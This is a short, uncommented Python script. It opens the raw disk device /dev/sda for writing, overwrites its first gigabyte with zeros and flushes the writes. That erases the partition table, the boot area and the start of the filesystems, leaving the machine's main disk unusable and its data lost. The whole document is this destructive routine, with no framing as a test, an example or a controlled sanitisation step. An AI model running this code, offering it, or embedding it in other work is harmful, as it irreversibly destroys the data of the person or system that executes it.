import os

with open("/dev/sda", "r+b", buffering=0) as disk:
    for _ in range(1024):
        disk.write(b"\x00" * 1048576)
    os.fsync(disk.fileno())
